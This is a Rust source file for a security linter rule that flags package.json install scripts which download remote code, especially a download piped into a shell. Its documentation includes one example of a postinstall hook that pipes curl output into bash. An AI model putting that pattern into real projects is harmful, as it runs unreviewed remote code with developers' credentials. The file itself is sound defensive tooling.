use crate::rule::{Check, File, Hit};
use crate::shell::{downloads_and_runs, is_downloader, parse};
use vibeguard_core::Severity;

crate::config_rule! {
    /// ## What it does
    /// Flags package.json lifecycle scripts that run on install (`preinstall`, `install`,
    /// `postinstall`, `prepare`) and download code: a download piped into a shell or run
    /// after download (high), or any `curl`/`wget` fetch (medium).
    ///
    /// ## Why is this bad?
    /// Install scripts run automatically on every `npm install`, on developer machines and
    /// CI, with their credentials; fetching and running remote code there is the pattern
    /// malicious packages use, and the content can change without a new release
    /// (CWE-494, CWE-829).
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "postinstall": "curl -s https://example.com/setup.sh | bash" } }
    /// ```
    ///
    /// ## Use instead
    /// ```json
    /// { "scripts": { "postinstall": "node scripts/setup.js" } }
    /// ```
    InstallScriptDownload {
        id: "npm/install-script-download",
        title: "Install script downloads code",
        cwe: [494, 829],
        severity: High,
        confidence: High,
        kinds: [PackageJson],
        message: "an install script downloads and runs code on every install",
    }
}

const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
];

impl Check for InstallScriptDownload {
    fn run(&self, f: &File<'_>, out: &mut Vec<Hit>) {
        for doc in f.docs() {
            for e in doc.get("scripts").map(|s| s.entries()).unwrap_or(&[]) {
                if !INSTALL_HOOKS.contains(&e.key.as_str()) {
                    continue;
                }
                let Some(cmd) = e.value.text() else { continue };
                let script = parse(cmd);
                if !downloads_and_runs(&script).is_empty() {
                    out.push(Hit::at(e.value.span.clone()).message(format!(
                        "the `{}` script downloads code and runs it on every install",
                        e.key
                    )));
                } else if script.all_commands().iter().any(|c| is_downloader(c)) {
                    out.push(
                        Hit::at(e.value.span.clone())
                            .severity(Severity::Medium)
                            .message(format!(
                                "the `{}` script downloads from the network on every install",
                                e.key
                            )),
                    );
                }
            }
        }
    }
}
